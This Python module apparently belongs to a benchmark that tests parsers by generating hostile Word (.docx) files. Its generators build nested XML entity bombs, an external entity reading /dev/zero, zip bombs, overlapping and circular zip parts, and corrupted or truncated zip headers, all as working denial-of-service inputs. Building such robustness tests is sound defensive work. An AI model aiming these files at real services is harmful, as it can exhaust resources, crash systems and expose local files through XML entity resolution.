"""Word documents whose zip package and XML are not what they claim to be."""

from __future__ import annotations

import struct
from copy import copy
from io import BytesIO
from random import Random
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZIP_STORED, ZipFile, ZipInfo

from bench.attack.hostile_files.kind import Kinds
from bench.attack.hostile_files.package import document, paragraph

PACKAGE_PARTS = Kinds()
_of = PACKAGE_PARTS.of(".docx")


@_of
def entities_of_entities(chance: Random, size: int) -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    prolog = f'<!DOCTYPE x [<!ENTITY l0 "haha">{entities}]>'
    return document(paragraph("&l11;"), prolog=prolog)


@_of
def entity_repeated(chance: Random, size: int) -> bytes:
    prolog = f'<!DOCTYPE x [<!ENTITY a "{"字" * (size // 6)}">]>'
    return document(paragraph("&a;" * (size // 6)), prolog=prolog)


@_of
def entity_from_outside(chance: Random, size: int) -> bytes:
    prolog = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///dev/zero">]>'
    return document(paragraph("&a;"), prolog=prolog)


@_of
def zeros(chance: Random, size: int) -> bytes:
    return document("", more={"word/media/a.bin": b"\0" * min(1_000_000_000, size * 900)})


@_of
def spaces_of_document(chance: Random, size: int) -> bytes:
    return document(" " * min(400_000_000, size * 400))


@_of
def many_parts(chance: Random, size: int) -> bytes:
    count = size // 100
    relations = "".join(
        f'<Relationship Id="x{n}" Type="t" Target="media/{n}.xml"/>' for n in range(count)
    )
    parts = {f"word/media/{n}.xml": b"<a/>" for n in range(count)}
    return document("", more=parts, relations=relations)


@_of
def parts_in_circles(chance: Random, size: int) -> bytes:
    relations = "".join(
        f'<Relationship Id="x{n}" Type="t" Target="document.xml"/>' for n in range(size // 60)
    )
    return document("", relations=relations)


@_of
def parts_of_one_name(chance: Random, size: int) -> bytes:
    stream = BytesIO(document(""))
    with ZipFile(stream, "a", ZIP_STORED) as package:
        for _ in range(min(3000, size // 60)):
            info = ZipInfo("word/document.xml")
            package.filelist.append(info)
            package.writestr(ZipInfo(f"x{len(package.filelist)}"), b"1")
            package.filelist.remove(info)
    return stream.getvalue()


@_of
def parts_overlapping(chance: Random, size: int) -> bytes:
    """Many entries of the list of parts that all stand for the same compressed bytes."""
    stream = BytesIO()
    with ZipFile(stream, "w", ZIP_DEFLATED) as package:
        package.writestr("a", b"\0" * 10_000_000)
        info = package.filelist[0]
        for n in range(min(60_000, size // 60)):
            other = copy(info)
            other.filename = f"word/m{n}.xml"
            package.filelist.append(other)
            package.NameToInfo[other.filename] = other
    return stream.getvalue()


def _patched(data: bytes, offset: int, form: str, value: int) -> bytes:
    """The package with a number of each entry of its list changed."""
    changed = bytearray(data)
    place = changed.find(b"PK\x01\x02")
    while place >= 0:
        struct.pack_into(form, changed, place + offset, value)
        place = changed.find(b"PK\x01\x02", place + 4)
    return bytes(changed)


# A number of the list of parts that is wrong, by name: where it stands and what it says.
_LIES = {
    "version_of_the_future": (6, "<H", 0x40),
    "locked_parts": (8, "<H", 1),
    "method_unknown": (10, "<H", 99),
    "sum_wrong": (16, "<I", 0xDEADBEEF),
    "packed_size_wrong": (20, "<I", 0xFFFFFFF0),
    "size_huge": (24, "<I", 0xFFFFFFF0),
    "size_nothing": (24, "<I", 0),
    "name_too_long": (28, "<H", 0xFFFF),
    "extra_too_long": (30, "<H", 0xFFF0),
    "place_wrong": (42, "<I", 0x7FFFFFFF),
}


def _lie(name: str, offset: int, form: str, value: int) -> None:
    def told(chance: Random, size: int) -> bytes:
        return _patched(document(paragraph("1") * (size // 50)), offset, form, value)

    told.__name__ = name
    _of(told)


for _name, _lies in _LIES.items():
    _lie(_name, *_lies)


@_of
def list_at_odds(chance: Random, size: int) -> bytes:
    data = bytearray(document(""))
    end = data.rfind(b"PK\x05\x06")
    offset = chance.choice((8, 10, 12, 16))
    data[end + offset : end + offset + 2] = b"\xff\xff"
    return bytes(data)


@_of
def cut_off(chance: Random, size: int) -> bytes:
    data = document(paragraph("1") * (size // 50))
    return data[: chance.randrange(30, len(data))]


@_of
def mangled(chance: Random, size: int) -> bytes:
    data = bytearray(document(paragraph("1") * (size // 50)))
    for _ in range(20):
        data[chance.randrange(len(data))] = chance.randrange(256)
    return bytes(data)


@_of
def packed_otherwise(chance: Random, size: int) -> bytes:
    stream = BytesIO()
    with ZipFile(BytesIO(document(""))) as old, ZipFile(stream, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name), chance.choice((ZIP_BZIP2, ZIP_LZMA)))
        new.writestr("word/x.xml", b"\0" * min(size * 900, 300_000_000), ZIP_BZIP2)
    return stream.getvalue()


@_of
def only_a_head(chance: Random, size: int) -> bytes:
    return b"PK\x03\x04" + b"PK\x01\x02" * (size // 4)
